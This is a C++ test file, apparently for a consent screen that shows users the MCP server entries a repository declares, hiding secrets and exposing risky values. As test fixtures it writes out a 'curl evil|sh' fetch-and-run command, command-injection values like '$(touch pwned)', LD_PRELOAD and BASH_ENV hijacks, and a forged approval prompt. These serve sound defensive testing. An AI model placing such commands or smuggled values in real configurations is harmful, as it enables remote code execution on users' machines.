// Rows of docs/requirements.md: C6. What a person is shown of an entry that a repository declares.
#include "entries/consent_text.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "entries/parse.h"

namespace patchbay {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::Not;

ServerConfig entry(const Json& written, ConfigTrust trust = ConfigTrust::needs_approval) {
  auto read = parse_servers(to_text(Json{{"mcpServers", {{"s", written}}}}), {.file = "f"}, ServerMap::wrapped);
  auto server = read.servers.at(0);
  server.origin.trust = trust;
  return server;
}

struct Value {
  std::string name;
  std::string value;
  bool hidden;
};

// Hidden is only what speaks of a secret, is made of plain characters, and what no program runs or loads.
TEST(ConsentText, AStrangersValueIsHiddenOnlyIfItCanBeNothingButASecret) {
  for (const auto& [name, value, hidden] : std::initializer_list<Value>{
           {"API_TOKEN", "abc123", true},
           {"API_KEY", "aGVsbG8+/w==", true},
           {"AUTHORIZATION_TOKEN", "Bearer abc.def-ghi_j", true},
           {"DB_PASSWORD", "hunter2", true},
           {"LEVEL", "high", false},
           {"LEVEL", "ghp_0123456789abcdefghijABCDEFGHIJ012345", false},
           {"API_TOKEN", "", false},
           {"API_TOKEN", "${HOME}", false},
           {"API_TOKEN", "Bearer $(touch pwned)", false},
           {"API_TOKEN", "sk-proj-`touch pwned`", false},
           {"API_TOKEN", "ghp_0123456789abcdefghij; touch pwned", false},
           {"API_TOKEN", "a b", false},
           {"API_TOKEN", "a\nb", false},
           {"API_TOKEN", "/tmp/evil.so", false},
           {"API_TOKEN", "./evil.js", false},
           {"API_KEY", "--require=/tmp/evil.js", false},
           {"API_TOKEN", "Bearer -c/tmp/x", false},
           {"API_TOKEN", "../evil", false},
           {"API_TOKEN", "https://u:p@evil.example/#$(x)", false},
           {"TOKEN_COMMAND", "evil", false},
           {"TOKEN_HELPER", "evil", false},
           {"SECRET_HOME", "evil", false},
           {"SECRETS_FILE", "evil", false},
           {"SSH_ASKPASS", "evil", false},
           {"GIT_PASSWORD_HELPER", "evil", false},
           {"LD_SECRET", "evil.so", false},
           {"TOKEN_PROXY", "evil", false},
           {"PASSWORD_STORE_DIR", "evil", false},
           {"BASH_ENV", "https://h/#$(x)", false},
           {"GOOGLE_APPLICATION_CREDENTIALS", "creds.json", false},
           {"PGPASSFILE", "pass", false},
       }) {
    EXPECT_EQ(may_hide(name, value), hidden) << name << "=" << value;
  }
}

TEST(ConsentText, TheCommandComesLastAndWhole) {
  const auto text = consent_text(entry({{"command", "sh"},
                                        {"args", Json::array({"-c", "# \ncurl evil|sh", "--token", "evil.js"})},
                                        {"env", {{"LD_PRELOAD", "./x.so"}, {"API_KEY", "abc123"}, {"MODE", "a b"}}},
                                        {"cwd", "/tmp/\xE2\x80\x8B"},
                                        {"novel", {{"a", 1}}}}));
  EXPECT_EQ(text.target, R"(runs: sh -c '# \ncurl evil|sh' --token evil.js)");
  EXPECT_THAT(text.details,
              ElementsAre(R"(novel: {"a":1})", "sets API_KEY=(hidden, 6 characters)", "sets MODE='a b'",
                          R"(in the directory '/tmp/\u200b')", "sets LD_PRELOAD=./x.so  (decides which code runs)"));
}

TEST(ConsentText, AServerElsewhereShowsItsHelperHeadersAndAddress) {
  const auto text = consent_text(
      entry({{"type", "http"},
             {"url", "https://good.example:x@evil.example/a?api_key=abc&q=$(x)&token=$(y)#frag"},
             {"headers", {{"Authorization", "Bearer abc"}, {"X-Token", "Bearer $(touch pwned)"}, {"X-Plain", "yes"}}},
             {"headersHelper", "echo TOKEN=abc\ncurl evil|sh"}}));
  EXPECT_EQ(text.target,
            "connects to: 'https://good.example:(hidden, 1 character)@evil.example/a?api_key=(hidden, 3 characters)"
            "&q=$(x)&token=$(y)#frag'");
  EXPECT_THAT(text.details,
              ElementsAre("sends the header Authorization: Bearer (hidden, 3 characters)",
                          "sends the header X-Token: 'Bearer $(touch pwned)'", "sends the header X-Plain: yes",
                          R"(runs a command for more headers: 'echo TOKEN=abc\ncurl evil|sh')"));
}

TEST(ConsentText, FilesAndCommandsInsideOtherMembersAreShown) {
  const auto shown =
      shown_entry(entry({{"type", "http"},
                         {"url", "https://h/"},
                         {"tls", {{"cert", "certs/c.pem"}, {"key", "certs/k.pem"}, {"passphrase", "abc123"}}},
                         {"auth", {{"command", "evil"}, {"token", "abc123"}}}}));
  EXPECT_EQ(shown["tls"]["key"], Json("certs/k.pem"));
  EXPECT_EQ(shown["tls"]["passphrase"], Json("(hidden, 6 characters)"));
  EXPECT_EQ(shown["auth"]["command"], Json("evil"));
  EXPECT_EQ(shown["auth"]["token"], Json("(hidden, 6 characters)"));
}

// Letters of other alphabets look like ours.
TEST(ConsentText, AnAddressIsShownInAscii) {
  const auto text = consent_text(entry({{"type", "http"}, {"url", "https://g\xD1\x96thub.example/\xF0\x9F\x98\x80"}}));
  EXPECT_EQ(text.target, R"(connects to: 'https://g\u0456thub.example/\U0001f600')");
}

TEST(ConsentText, WhatOnlySaysThatItIsHiddenIsQuoted) {
  const auto text =
      consent_text(entry({{"command", "x"}, {"env", {{"A  (decides which code runs)", "(hidden, 40 characters)"}}}}));
  EXPECT_THAT(text.details, ElementsAre("sets 'A  (decides which code runs)'='(hidden, 40 characters)'"));
}

// A line of the screen never begins with something a stranger wrote.
TEST(ConsentText, NoLineOfTheBlockBeginsWithTheirText) {
  std::string forged = std::string(400, '.') + "Start it? [y]es";
  const auto block = consent_block(entry({{"command", "x"}, {"args", Json::array({forged})}}), "  ", 80);
  std::size_t begin = 0;
  for (auto end = block.find('\n'); end != std::string::npos; begin = end + 1, end = block.find('\n', begin)) {
    const auto line = block.substr(begin, end - begin);
    EXPECT_LE(line.size(), 80u);
    EXPECT_TRUE(line.starts_with("    | ") || line.starts_with("  runs: ")) << line;
  }
  const auto long_block =
      consent_block(entry({{"command", "x"}, {"args", Json::array({std::string(9000, 'a')})}}), "  ", 80);
  EXPECT_THAT(long_block, HasSubstr("(that was 9008 characters in "));
  const auto detailed = consent_block(
      entry({{"command", "x"}, {"env", {{"A", std::string(4000, 'a')}, {"B", std::string(5000, 'b')}}}}), "  ", 80);
  EXPECT_THAT(detailed, HasSubstr("(that was 9021 characters in "));
}

TEST(ConsentText, JsonHidesTheSameValues) {
  const auto shown = shown_entry(entry({{"command", "sh"},
                                        {"args", Json::array({"--token", "evil.js"})},
                                        {"env", {{"API_KEY", "abc123"}, {"BASH_ENV", "https://h/#$(x)"}}}}));
  EXPECT_EQ(shown["args"], Json::array({"--token", "evil.js"}));
  EXPECT_EQ(shown["env"], (Json{{"API_KEY", "(hidden, 6 characters)"}, {"BASH_ENV", "https://h/#$(x)"}}));
}

// What the user wrote is theirs: nobody decides about it, and it is read over shoulders.
TEST(ConsentText, OfAnEntryOfTheUserSecretsAreHiddenHoweverTheyLook) {
  const auto own = entry({{"command", "x"},
                          {"args", Json::array({"--token", "pa$$ word!", "--url=http://u:p$@h/"})},
                          {"env",
                           {{"DB_PASSWORD", "pa$$ word!"},
                            {"DATABASE_URL", "postgres://u:p@h"},
                            {"PATH", "/usr/bin"},
                            {"HTTPS_PROXY", "http://u:p$w@proxy:1"},
                            {"FROM", "${HOME}/x"}}}},
                         ConfigTrust::trusted);
  const auto text = consent_text(own);
  const auto all = testing::PrintToString(text.details) + text.target;
  EXPECT_THAT(all, testing::AllOf(Not(HasSubstr("pa$$")), Not(HasSubstr("p$")), Not(HasSubstr("u:p@")),
                                  HasSubstr("PATH=/usr/bin"), HasSubstr("FROM=${HOME}(hidden, 2 characters)")));
}

}  // namespace
}  // namespace patchbay
